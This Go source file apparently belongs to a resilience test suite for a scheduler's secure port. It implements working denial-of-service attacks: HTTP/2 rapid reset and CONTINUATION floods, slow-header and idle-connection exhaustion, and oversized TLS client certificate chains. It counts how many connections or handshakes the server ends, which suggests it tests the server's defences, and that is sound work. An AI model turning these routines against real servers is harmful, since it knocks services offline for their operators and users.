// SPDX-License-Identifier: Apache-2.0

package attacks

import (
	"bufio"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"math/big"
	"slices"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"golang.org/x/sync/errgroup"
)

const (
	// resetConnections and resetStreams are the size of a round of rapid resets.
	resetConnections, resetStreams = 4, 20_000
	// floodConnections send floodFrames CONTINUATION frames of floodFrame bytes each: 64 MB together.
	floodConnections, floodFrames, floodFrame = 4, 1024, 16 << 10
	slowConnections                           = 500
	idleConnections                           = 10_000
	// chains are client certificates of chainSize bytes together.
	chains, chainSize = 64, 1 << 20
	// enoughPods are bound during each attack: the second one was created after the first was bound.
	enoughPods = 2
	// dialers connect at the same time.
	dialers = 32
)

// target is the secure port of a scheduler, without credentials.
type target struct {
	address string
	tls     *tls.Config
	// bound is the number of pods that the scheduler has bound.
	bound *atomic.Int64
}

// connection is an HTTP/2 connection whose frames the client writes itself.
type connection struct {
	*http2.Framer
	socket *tls.Conn
	buffer *bufio.Writer
}

func (t target) dial(ctx context.Context, change func(*tls.Config)) (*tls.Conn, error) {
	config := t.tls.Clone()
	change(config)
	socket, err := (&tls.Dialer{Config: config}).DialContext(ctx, "tcp", t.address)
	if err != nil {
		return nil, err
	}
	context.AfterFunc(ctx, func() { socket.Close() })
	return socket.(*tls.Conn), nil
}

// http2 opens an HTTP/2 connection.
func (t target) http2(ctx context.Context) (*connection, error) {
	socket, err := t.dial(ctx, func(config *tls.Config) { config.NextProtos = []string{http2.NextProtoTLS} })
	if err != nil {
		return nil, err
	}
	buffer := bufio.NewWriterSize(socket, 64<<10)
	c := &connection{http2.NewFramer(buffer, socket), socket, buffer}
	_, err = buffer.WriteString(http2.ClientPreface)
	return c, errors.Join(err, c.WriteSettings(), buffer.Flush())
}

// finish sends a PING, and reads until the server answers it: then it has handled all frames before. An error says that
// the server has ended the connection.
func (c *connection) finish(sent error) error {
	ended := make(chan error, 1)
	go func() {
		for {
			frame, err := c.ReadFrame()
			switch f := frame.(type) {
			case *http2.PingFrame:
				ended <- nil
				return
			case *http2.GoAwayFrame:
				err = fmt.Errorf("GOAWAY %s", f.ErrCode)
			}
			if err != nil {
				ended <- err
				return
			}
		}
	}()
	_ = errors.Join(sent, c.WritePing(false, [8]byte{}), c.buffer.Flush()) // the server may have ended the connection
	return <-ended
}

// headers encodes the headers of a request so that no frame depends on another.
func headers(path string) []byte {
	var block strings.Builder
	encoder := hpack.NewEncoder(&block)
	for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", path}} {
		_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true}) // a Builder does not fail
	}
	return []byte(block.String())
}

// rapidReset requests a page and resets the stream at once, many times. It returns how many connections the server ended.
func (t target) rapidReset(path string) func(context.Context) (int, error) {
	block := headers(path)
	return func(ctx context.Context) (int, error) {
		return t.parallel(ctx, resetConnections, func(c *connection) error {
			for id := uint32(1); id < 2*resetStreams; id += 2 {
				if err := errors.Join(
					c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}),
					c.WriteRSTStream(id, http2.ErrCodeCancel),
				); err != nil {
					return err
				}
			}
			return nil
		})
	}
}

// continuationFlood sends one request with endless headers. It returns how many connections the server ended.
func (t target) continuationFlood(ctx context.Context) (int, error) {
	var block strings.Builder
	encoder := hpack.NewEncoder(&block)
	for block.Len() < floodFrame-64 {
		_ = encoder.WriteField(hpack.HeaderField{Name: "x", Value: "flood", Sensitive: true}) // a Builder does not fail
	}
	return t.parallel(ctx, floodConnections, func(c *connection) error {
		err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headers("/healthz"), EndStream: true})
		for i := 1; i <= floodFrames && err == nil; i++ {
			err = c.WriteContinuation(1, i == floodFrames, []byte(block.String()))
		}
		return err
	})
}

// parallel sends frames on several connections, and returns how many of them the server ended.
func (t target) parallel(ctx context.Context, connections int, send func(*connection) error) (int, error) {
	var all errgroup.Group
	var ended atomic.Int64
	for range connections {
		c, err := t.http2(ctx)
		if err != nil {
			return 0, err
		}
		defer c.socket.Close()
		all.Go(func() error {
			if err := c.finish(send(c)); err != nil {
				ended.Add(1)
			}
			return ctx.Err()
		})
	}
	err := all.Wait()
	return int(ended.Load()), err
}

// slowHeaders sends requests a byte a second, until the server ends the connections. It returns how many it ended.
func (t target) slowHeaders(ctx context.Context) (int, error) {
	sockets, err := t.open(ctx, slowConnections, func() (io.ReadWriteCloser, error) {
		return t.dial(ctx, func(config *tls.Config) { config.NextProtos = []string{"http/1.1"} })
	})
	if err != nil {
		return 0, err
	}
	var all errgroup.Group
	for _, socket := range sockets {
		all.Go(func() error {
			defer socket.Close()
			go func() {
				request := strings.NewReader("GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + strings.Repeat("x", 1<<20))
				var err error
				for tick := time.NewTicker(time.Second); err == nil; <-tick.C {
					_, err = io.CopyN(socket, request, 1)
				}
			}()
			_, _ = io.Copy(io.Discard, socket) // any end is the server's, or that of ctx
			return ctx.Err()
		})
	}
	return len(sockets), all.Wait()
}

// idle opens connections and leaves them alone until pods have been bound.
func (t target) idle(ctx context.Context) (int, error) {
	sockets, err := t.open(ctx, idleConnections, func() (io.ReadWriteCloser, error) {
		c, err := t.http2(ctx)
		if err != nil {
			return nil, err
		}
		return c.socket, nil
	})
	for _, socket := range sockets {
		defer socket.Close()
	}
	if err == nil {
		_, err = t.none(ctx)
	}
	return 0, err
}

// none waits until pods have been bound.
func (t target) none(ctx context.Context) (int, error) {
	for before := t.bound.Load(); t.bound.Load() < before+enoughPods; {
		select {
		case <-ctx.Done():
			return 0, ctx.Err()
		case <-time.After(10 * time.Millisecond):
		}
	}
	return 0, nil
}

// open opens connections, several at a time.
func (t target) open(ctx context.Context, count int, dial func() (io.ReadWriteCloser, error)) ([]io.ReadWriteCloser, error) {
	sockets := make([]io.ReadWriteCloser, count)
	var all errgroup.Group
	all.SetLimit(dialers)
	for i := range sockets {
		all.Go(func() error {
			socket, err := dial()
			if err != nil {
				return fmt.Errorf("connection %d: %w", i, err)
			}
			sockets[i] = socket
			return nil
		})
	}
	err := all.Wait()
	return slices.DeleteFunc(sockets, func(socket io.ReadWriteCloser) bool { return socket == nil }), err
}

// longChains sends client certificates that are too long. It returns how many handshakes the server refused.
func (t target) longChains(ctx context.Context) (int, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return 0, err
	}
	template := &x509.Certificate{SerialNumber: big.NewInt(1), NotAfter: time.Now().Add(time.Hour)}
	single, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
	if err != nil {
		return 0, err
	}
	chain := tls.Certificate{Certificate: slices.Repeat([][]byte{single}, chainSize/len(single)), PrivateKey: key}
	var all errgroup.Group
	all.SetLimit(dialers)
	var refused atomic.Int64
	for range chains {
		all.Go(func() error {
			socket, err := t.dial(ctx, func(config *tls.Config) {
				config.GetClientCertificate = func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return &chain, nil }
			})
			if err == nil {
				// The server verifies the certificate after the client's part of the handshake.
				_, err = io.WriteString(socket, "GET /healthz HTTP/1.0\r\n\r\n")
				_, answer := socket.Read(make([]byte, 1))
				err = errors.Join(err, answer, socket.Close())
			}
			if err != nil {
				refused.Add(1)
			}
			return ctx.Err()
		})
	}
	err = all.Wait()
	return int(refused.Load()), err
}
